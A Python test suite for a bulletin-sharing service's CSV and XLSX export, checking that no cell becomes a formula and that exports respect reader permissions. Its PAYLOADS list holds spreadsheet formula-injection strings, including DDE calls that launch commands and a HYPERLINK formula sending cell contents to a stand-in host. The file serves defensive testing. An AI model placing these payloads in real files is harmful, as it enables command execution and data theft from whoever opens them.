"""No cell of an export is ever calculated; and an export holds what its reader may read anyway, and no more."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any
from uuid import UUID

import pytest
from builders import World, make_draft, make_person, once
from openpyxl import Workbook, load_workbook

from partners.values import Actor
from share import exporting, spreadsheets
from share.draft import Lead, Suspect
from share.exporting import bulletins_as_tables, reports_as_tables
from share.filters import Wanted
from share.reading import bulletins_for
from share.recall import recall
from share.spreadsheets import LONGEST, Table, as_csv, as_xlsx, guarded
from share.worker import run_all

SIGNS = "=+-@＝＋－＠"
PAYLOADS = (
    *("=1+1", "=1+1|", "+1+1", "-1+1", "@SUM(1+1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "−1"),
    *("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://x.example/?"&A1,"more")', '=IMPORTXML("http://x.example","//a")'),
    *('=WEBSERVICE("http://x.example")', '=IMAGE("http://x.example")', '=DDE("cmd";"/C calc";"x")'),
    *('=IMPORTRANGE("x","A1")', '=IMPORTDATA("http://x.example")', '=IMPORTFEED("x")', '=IMPORTHTML("x")'),
    *(" =1+1", "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1"),
    *(
        "\ufeff=1+1",
        "\u200e=1+1",
        "\u202a=1+1",
        "\u3000＝1+1",
        "\x0b=1+1",
        "\x0c=1+1",
        "\x00=1+1",
        "\x1f=1+1",
    ),
    *("\tplain", "\rplain", "\nplain"),
    *(
        "'=1+1",
        '"=1+1',
        '"\n=1+1',
        "a\n=1+1",
        "a\r\n=1+1",
        "a,=1+1",
        "a;=1+1",
        "a\t=1+1",
        'a,"=1+1',
        "x;+1",
        "x;-1",
    ),
    *('a";=1+1;"b', 'a",=1+1,"b', "x; =1+1", "x;\u00a0=1+1", "x,@SUM(1)"),
    *("+33 6 12 34 56 78", "+40722000111", "-5", "--", "- a list", "=", "+", "-", "@", "@handle", '=""'),
    *("%0A=1+1", "|=1+1", "=2+5+cmd|' /C calc'!A0", "=-1", "=+1", "==1", "=\n1", "＝cmd|' /C calc'!A0"),
)


def rows_of(content: bytes, separator: str = ",", quote: bool = True) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    how: dict[str, Any] = {} if quote else {"quoting": csv.QUOTE_NONE}
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, **how))


def could_be_calculated(cell: str) -> bool:
    """Whether a spreadsheet might read a cell as a formula: blanks, quotation marks and hidden signs do not count."""
    bare = cell.lstrip(
        "".join(chr(code) for code in range(0x21)) + '\u00a0\u2003\u200b\ufeff\u200e\u202a\u3000"'
    )
    return bare[:1] in SIGNS and bare != ""


def calculated(content: bytes) -> list[str]:
    """Every cell that would be a formula, however a spreadsheet divides the file."""
    divided = [rows_of(content)]
    for separator in (",", ";", "\t"):
        lines = content.decode("utf-8-sig").replace("\r", "\n").split("\n")
        divided.append([line.split(separator) for line in lines])
    return [cell for rows in divided for row in rows for cell in row if could_be_calculated(cell)]


def formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [str(cell.value) for sheet in book for row in sheet for cell in row if cell.data_type == "f"]


def test_there_are_at_least_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_formula_survives_in_csv_however_it_is_divided(payload: str) -> None:
    table = Table("t", ("id", "words"), [("1", payload), ("2", f"before {payload}")])
    assert calculated(as_csv(table)) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_every_word_in_xlsx_is_text_and_stays_as_it_is(payload: str) -> None:
    content = as_xlsx([Table("t", ("words", payload), [(payload, "x")])])
    assert formulas(content) == []
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cell = sheet["A2"]
    kept = "".join(sign if sign >= " " or sign in "\t\n\r" else "\ufffd" for sign in payload)
    assert str(cell.value).replace("\r\n", "\n").replace("\r", "\n") == kept.replace("\r\n", "\n").replace(
        "\r", "\n"
    )
    assert (cell.data_type, cell.number_format) == ("s", "@")


SPARED = {"−1", '"=1+1', '"\n=1+1', "'=1+1"}
"""What is no formula by itself, only beside others."""


@pytest.mark.parametrize("payload", [one for one in PAYLOADS if one not in SPARED], ids=ascii)
def test_without_the_guard_the_formula_would_survive(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The control, for CSV."""
    monkeypatch.setattr(spreadsheets, "guarded", str)
    content = as_csv(Table("t", ("words",), [(payload,)]))
    harmless_alone = payload[:1] in "%|\t\r\n" and payload.strip()[:1] not in SIGNS
    assert calculated(content) != [] or harmless_alone


def test_without_the_guard_the_library_makes_formulas() -> None:
    """The control, for XLSX."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    begun = [one for one in PAYLOADS if one.startswith("=") and len(one) > 1 and one.isprintable()]
    for payload in begun:
        sheet.append([payload])
    out = io.BytesIO()
    book.save(out)
    assert len(formulas(out.getvalue())) == len(begun) > 15


def test_what_is_no_formula_stays_as_it_is() -> None:
    for words in ("Oradea", "a-b", "1+1=2", "e@example.org", "a, b; c", "", "5", "Ștefan's", "x = y"):
        assert guarded(words) == words
    assert (guarded(-5), guarded(7)) == ("-5", "7")


def test_a_cell_that_is_too_long_for_a_spreadsheet_is_cut_and_says_so() -> None:
    content = as_xlsx([Table("t", ("words",), [("x" * 70_000,)])])
    sheet = load_workbook(io.BytesIO(content)).active
    assert (
        sheet is not None and len(str(sheet["A2"].value)) < 32_767 and str(sheet["A2"].value).endswith("[…]")
    )
    assert len(rows_of(as_csv(Table("t", ("w",), [("x" * (LONGEST * 2),)])))[1][0]) == LONGEST * 2


# What is in an export.


@pytest.fixture
def told(world: World) -> tuple[World, Actor, Actor]:
    """A shelter and a hotline in one circle; one bulletin with what a person could have typed into it."""
    shelter, hotline = world.partner("shelter"), world.partner("hotline")
    world.circle("danube", shelter, hotline)
    world.post(
        make_draft(
            leads=(Lead("VENUE", "@SUM(1+1)", concerns=("no-subject",)), Lead("VENUE", "+Bar 7")),
            suspects=(
                Suspect("S1", names=("Gelu Marin",), phones=("+40 722 000 111",), concerns=("no-subject",)),
            ),
        ),
        shelter,
    )
    return world, shelter, hotline


def found(world: World, by: Actor, **wanted: str) -> dict[str, Table]:
    return {
        table.name: table for table in bulletins_as_tables(Wanted(**wanted), "en", by=by, desk=world.desk)
    }


def test_what_somebody_typed_into_a_bulletin_is_no_formula_in_its_export(
    told: tuple[World, Actor, Actor],
) -> None:
    world, _, hotline = told
    tables = found(world, hotline)
    typed = {str(row[5]) for row in tables["facts"].rows}
    assert {"@SUM(1+1)", "+Bar 7", "+40 722 000 111"} & typed
    assert formulas(as_xlsx(tables.values())) == []
    for table in tables.values():
        assert calculated(as_csv(table)) == []


def test_an_export_of_bulletins_is_what_the_list_gives_its_reader(told: tuple[World, Actor, Actor]) -> None:
    world, shelter, hotline = told
    stranger = world.partner("stranger")
    for by in (shelter, hotline, stranger):
        page = bulletins_for(by, after=None, limit=200, desk=world.desk)
        ids = [bulletin.to_plain()["envelope"]["id"] for bulletin in page.bulletins]
        tables = found(world, by)
        assert [row[0] for row in tables["bulletins"].rows] == ids[::-1]
        assert {row[0] for row in tables["facts"].rows} <= set(ids)
    assert found(world, stranger)["bulletins"].rows == []
    assert len(found(world, hotline, origin="RO")["bulletins"].rows) == 1
    assert found(world, hotline, origin="FR")["bulletins"].rows == []


def test_a_recalled_bulletin_is_exported_without_a_fact(told: tuple[World, Actor, Actor]) -> None:
    world, shelter, hotline = told
    (row,) = found(world, hotline)["bulletins"].rows
    recall(UUID(str(row[0])), by=shelter, once=once(shelter), desk=world.desk)
    run_all(world.desk)
    tables = found(world, hotline)
    assert [row[3] for row in tables["bulletins"].rows] == ["recalled"]
    assert tables["facts"].rows == [] and "Foggia" not in repr([*tables["bulletins"].rows])


def test_an_export_of_reports_holds_codes_and_no_word_of_them(told: tuple[World, Actor, Actor]) -> None:
    world, shelter, hotline = told
    world.post(
        make_draft(people=(make_person("P7", names=("Zamfira Sintetica",)),), reference="CM-1"), shelter
    )
    reports, grounds = reports_as_tables(shelter, desk=world.desk)
    assert len(reports.rows) == 2 and {row[1] for row in grounds.rows} == {"P1", "P7"}
    said = as_csv(reports) + as_csv(grounds) + as_xlsx([reports, grounds])
    for word in ("Ioana", "Zamfira", "Oradea", "CM-1", "Gelu"):
        assert word.encode() not in said
    assert reports_as_tables(hotline, desk=world.desk)[0].rows == []


def test_more_reports_than_fit_are_cut_at_the_newest(
    told: tuple[World, Actor, Actor], monkeypatch: pytest.MonkeyPatch, clock: Any
) -> None:
    world, shelter, _ = told
    monkeypatch.setattr(exporting, "MOST_REPORTS", 3)
    newest = []
    for _number in range(4):
        clock.forward(minutes=1)
        newest.append(str(world.post(make_draft(), shelter)))
    reports, _ = reports_as_tables(shelter, desk=world.desk)
    assert [row[0] for row in reports.rows] == newest[:0:-1]
